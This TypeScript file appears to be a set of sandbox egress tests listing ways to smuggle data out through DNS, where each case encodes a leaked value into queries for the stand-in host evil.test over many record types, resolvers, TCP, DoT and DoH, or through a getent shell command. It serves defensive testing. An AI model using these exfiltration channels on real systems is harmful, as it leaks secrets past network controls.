import type { Attack } from '../attack.ts';
import { connectTo, numbered } from './steps.ts';

const RESOLVER = '198.18.0.1';
const NOBODY = 'code 3, 0 records';
const NO_RESOLVER = { stopped: ['EPERM', 'EACCES', 'ENETUNREACH', 'no answer'] } as const;
const dns = (name: string, type: number, at = RESOLVER): Attack['step'] => ({ kind: 'dns', at, name, type });

const TYPES: readonly (readonly [string, number])[] = [
  ['A', 1],
  ['AAAA', 28],
  ['TXT', 16],
  ['NULL', 10],
  ['ANY', 255],
  ['MX', 15],
  ['CNAME', 5],
  ['SRV', 33],
  ['HTTPS', 65],
  ['a private type', 65_280],
];

/** Questions that carry something out. What they ask of the system's own resolver, the test's server of names writes down. */
export const names: readonly Attack[] = numbered('N', 'names', [
  ...TYPES.map(([type, number]) => ({
    what: `a question of type ${type} with data in the name`,
    step: dns('{LEAK}.evil.test', number),
    stopped: NOBODY,
    landlock: NO_RESOLVER,
  })),
  {
    what: 'data in the longest name there is',
    step: dns(`${`${'x'.repeat(54)}{LEAK}.`.repeat(3)}evil.test`, 16),
    stopped: [NOBODY, 'no answer'],
    landlock: NO_RESOLVER,
  },
  { what: 'data below the allowed name', step: dns('{LEAK}.allowed.test', 1), stopped: NOBODY, landlock: NO_RESOLVER },
  {
    what: 'data below a wildcard: the answer is made up here',
    step: dns('{LEAK}x.lead.test', 1),
    stopped: 'code 0, 1 records',
    landlock: NO_RESOLVER,
  },
  { what: 'the key in labels below a wildcard', step: connectTo('{LABELS}.lead.test:80'), stopped: 'secret:egress' },
  { what: 'data in a reverse question', step: dns('{LEAK}.in-addr.arpa', 12), stopped: NOBODY, landlock: NO_RESOLVER },
  {
    what: 'a question over TCP',
    step: { kind: 'dns', at: RESOLVER, name: '{LEAK}.evil.test', type: 16, overTcp: true },
    stopped: NOBODY,
  },
  {
    what: 'a question to a resolver of the network',
    step: dns('{LEAK}.evil.test', 16, '203.0.113.66'),
    stopped: 'ENETUNREACH',
    landlock: NO_RESOLVER,
  },
  {
    what: "a question to the machine's own resolver",
    step: dns('{LEAK}.evil.test', 16, '127.0.0.1'),
    stopped: ['no answer', 'ECONNREFUSED'],
    landlock: NO_RESOLVER,
  },
  {
    what: "a question to the system's stub",
    step: dns('{LEAK}.evil.test', 16, '127.0.0.53'),
    stopped: ['no answer', 'ECONNREFUSED'],
    landlock: NO_RESOLVER,
  },
  {
    what: 'a question to the address of the allowed host',
    step: dns('{LEAK}.evil.test', 16, '203.0.113.10'),
    stopped: 'ENETUNREACH',
    landlock: NO_RESOLVER,
  },
  {
    what: 'a question to a synthetic address',
    step: dns('{LEAK}.evil.test', 16, '198.18.1.0'),
    stopped: ['no answer', 'ECONNREFUSED'],
    landlock: NO_RESOLVER,
  },
  {
    what: 'a question over TCP to a resolver of the network',
    step: { kind: 'dns', at: '203.0.113.66', name: '{LEAK}.evil.test', type: 16, overTcp: true },
    stopped: 'network.near',
  },
  {
    what: 'a question over TLS (DoT)',
    step: { kind: 'write', to: 'evil.test:853', pieces: ['{LEAK}'] },
    stopped: ['ENOTFOUND', 'network.unlisted'],
  },
  {
    what: 'a question over HTTPS (DoH)',
    step: { kind: 'fetch', url: 'https://203.0.113.66/dns-query?dns={LEAK}' },
    stopped: ['EACCES', 'network.near'],
  },
  {
    what: 'HTTP spoken to the resolver',
    step: { kind: 'write', to: '198.18.0.1:53', pieces: ['GET http://evil.test/{LEAK} HTTP/1.1\r\nHost: evil.test\r\n\r\n'] },
    stopped: ['no answer', 'no more', '[closed]', 'network.near'],
  },
  {
    what: 'getaddrinfo(3) of a program',
    step: { kind: 'shell', needs: 'getent', command: 'getent hosts {LEAK}.evil.test; echo none' },
    stopped: 'none',
  },
  {
    what: 'nscd and other daemons of names',
    step: { kind: 'call', args: ['unix', '/var/run/nscd/socket', '{LEAK}'] },
    stopped: ['ENOENT', 'EACCES'],
  },
  { what: 'a name that only the machine knows', step: connectTo('host.internal:80'), stopped: 'network.unlisted' },
]);
